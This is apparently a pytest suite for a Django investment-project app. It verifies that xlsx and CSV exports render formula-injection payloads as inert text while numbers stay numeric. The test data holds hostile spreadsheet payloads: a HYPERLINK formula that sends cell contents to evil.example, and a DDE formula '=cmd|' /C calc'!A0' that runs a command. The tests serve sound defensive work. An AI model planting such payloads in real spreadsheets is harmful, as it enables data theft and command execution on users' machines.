"""No spreadsheet the product writes holds a live formula (issue 8, item 15; OWASP "CSV Injection").

Projects are named like the payloads an attacker would type; every export route is downloaded as a user would
and read back: openpyxl must see text cells (data_type "s"), the sheet XML must have no <f> element, CSV cells get
OWASP's apostrophe, and numbers (a negative one too) stay numbers.
"""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.exports import csv_safe, is_formula_like, rows_to_csv, rows_to_xlsx
from projects.models import InvestmentPlan, ListKind, ProjectList
from projects.testing import make_project
from scheduling.choices import ReportStatus
from scheduling.models import MonthlyReport

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1", "@SUM(A1)", "-2+3", "\t=1+1", "=1+1\r", "#N/A"]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_live_formulas(data: bytes, expected_texts) -> openpyxl.Workbook:
    """The raw XML has no formula, and each expected text is in a text cell, exactly as given."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells[cell.value] = cell
    for text in expected_texts:
        assert text in cells, (text, sorted(cells)[:20])
        assert cells[text].data_type == "s", text
        if is_formula_like(text):
            assert cells[text].quotePrefix, text  # kept as text if the clerk edits the cell
    return workbook


@pytest.fixture
def hostile_projects():
    """One continuing 鲅鱼圈区 project per payload (so they appear in lists, warnings and the month template)."""
    return [
        make_project(
            name=name,
            owner=f"{name}公司" if not name.startswith("#") else "-业主",
            stage="continuing",
            actual_start=dt.date(2023, 3, 1),
            total_investment=Decimal("12345.67"),
        )
        for name in HOSTILE
    ]


def test_helpers_guard_text_and_leave_numbers_alone():
    assert [csv_safe(v) for v in ("=1+1", "+1", "-2+3", "@A1", "\tx", "\rx", "正常", -5, Decimal("-1.5"), None)] == [
        "'=1+1",
        "'+1",
        "'-2+3",
        "'@A1",
        "'\tx",
        "'\rx",
        "正常",
        -5,
        Decimal("-1.5"),
        "",
    ]
    handle = rows_to_xlsx("表", ["=标题"], [[text, -5, Decimal("-1.50"), 3.5] for text in HOSTILE])
    workbook = assert_no_live_formulas(handle.read(), [*HOSTILE, "=标题"])
    numbers = [cell for cell in workbook.active[2] if not isinstance(cell.value, str)]
    assert [(c.value, c.data_type) for c in numbers] == [(-5, "n"), (-1.5, "n"), (3.5, "n")]
    rows = list(csv.reader(io.StringIO(rows_to_csv(["-列"], [["=1+1", -5]]).decode("utf-8-sig"))))
    assert rows == [["'-列"], ["'=1+1", "-5"]]


def test_project_list_export(login, hostile_projects):
    response = login("admin").get(reverse("projects:project_list"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = assert_no_live_formulas(_body(response), HOSTILE).active
    money = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == 12345.67]
    assert len(money) == len(HOSTILE) and all(cell.data_type == "n" for cell in money)
    # Money is shown as people read it (12,345.67) while the cell keeps the exact number.
    assert {cell.number_format for cell in money} == {"#,##0.00"}


def test_project_lists_export(login):
    kind = ListKind.objects.create(code="hostile", name="-省级清单")
    for name in HOSTILE:
        ProjectList.objects.create(kind=kind, name=name)
    response = login("admin").get(reverse("projects:projectlist_list"), {"export": "xlsx"})
    assert response.status_code == 200
    assert_no_live_formulas(_body(response), [*HOSTILE, "-省级清单"])


def test_monthly_report_list_export(login, hostile_projects):
    project = hostile_projects[0]
    MonthlyReport.objects.create(
        project=project,
        period=dt.date(2024, 5, 1),
        month_amount=Decimal("10"),
        ytd_amount=Decimal("10"),
        total_amount=Decimal("10"),
        progress="=cmd|' /C calc'!A0",
        status=ReportStatus.APPROVED,
    )
    response = login("admin").get(reverse("scheduling:monthlyreport_list"), {"export": "xlsx"})
    assert response.status_code == 200
    assert_no_live_formulas(_body(response), [project.name])


def test_warnings_export(login, hostile_projects):
    for project in hostile_projects:
        InvestmentPlan.objects.create(project=project, year=2024, amount=Decimal("1200"))
    response = login("admin").get(reverse("scheduling:warnings"), {"as_of": "2024-06", "export": "xlsx"})
    assert response.status_code == 200
    assert_no_live_formulas(_body(response), HOSTILE)


def test_month_template(login, hostile_projects):
    client = login("byq")
    response = client.get(reverse("scheduling:month_template", args=["210804", "2024-05"]))
    assert response.status_code == 200
    workbook = assert_no_live_formulas(_body(response), HOSTILE)
    # Amounts the clerk fills stay numeric: the project's total investment is a number cell.
    sheet = workbook.worksheets[0]
    totals = [cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value == 12345.67]
    assert totals and all(cell.data_type == "n" for cell in totals)
    # The guarded names do not get in the way of the round trip: filled in and uploaded, every row is saved.
    header = [cell.value for cell in sheet[2]]
    month = header.index(next(h for h in header if h.startswith("本月完成"))) + 1
    for row in range(3, 3 + len(HOSTILE)):
        sheet.cell(row, month).value = 10
    upload = io.BytesIO()
    workbook.save(upload)
    page = client.post(
        reverse("scheduling:month_upload", args=["210804", "2024-05"]),
        {"file": SimpleUploadedFile("5月.xlsx", upload.getvalue()), "mode": "all"},
    )
    result = page.context["result"]
    assert (result.created, result.rejected) == (len(HOSTILE), 0), result.errors
    saved = MonthlyReport.objects.filter(project__in=hostile_projects, month_amount=Decimal("10"))
    assert saved.count() == len(HOSTILE)


@pytest.fixture
def inline_jobs(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def test_import_error_downloads(login, inline_jobs):
    """A file whose header and cells are payloads: the rejected rows download as text, in .xlsx and in .csv."""
    hostile_header = '=HYPERLINK("http://evil.example","总投资")'
    workbook = openpyxl.Workbook()
    for row in (
        ["项目名称", "建设单位", "县区", hostile_header],
        ["+项目", "@公司", "鲅鱼圈区", "很多"],
    ):
        workbook.active.append(row)
    workbook.active["D1"].data_type = "s"  # written as the header text, as a clerk would type it with a quote
    data = io.BytesIO()
    workbook.save(data)
    client = login("admin")
    upload = client.post(reverse("projects:import"), {"file": SimpleUploadedFile("hostile.xlsx", data.getvalue())})
    job = upload["Location"].split("/")[-3]
    columns = {"column-0": "name", "column-1": "owner", "column-2": "region", "column-3": "total_investment"}
    client.post(reverse("projects:import_columns", args=[job]), {"mode": "valid", **columns})
    preview = client.get(reverse("projects:import_preview", args=[job])).content.decode()
    assert reverse("projects:import_errors", args=[job, "preview", "xlsx"]) in preview

    xlsx = client.get(reverse("projects:import_errors", args=[job, "preview", "xlsx"]))
    assert xlsx.status_code == 200
    sheet = assert_no_live_formulas(_body(xlsx), [hostile_header]).active
    assert [cell.value for cell in sheet[1]] == ["行号", "列", "原因"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (2, "n")  # the row number stays a number

    response = client.get(reverse("projects:import_errors", args=[job, "preview", "csv"]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["行号", "列", "原因"]
    assert rows[1][:2] == ["2", "'" + hostile_header] and "不是数字" in rows[1][2]
    assert "filename*=utf-8''" in response["Content-Disposition"]
    assert client.get(reverse("projects:import_errors", args=[job, "commit", "csv"])).status_code == 404
    assert client.get(reverse("projects:import_errors", args=[job, "preview", "pdf"])).status_code == 404
    # After the import (only valid rows: none), the result page offers the same download for what was rejected.
    client.post(reverse("projects:import_preview", args=[job]))
    result = client.get(reverse("projects:import_result", args=[job])).content.decode()
    assert reverse("projects:import_errors", args=[job, "commit", "xlsx"]) in result
    committed = client.get(reverse("projects:import_errors", args=[job, "commit", "xlsx"]))
    assert_no_live_formulas(_body(committed), [hostile_header])
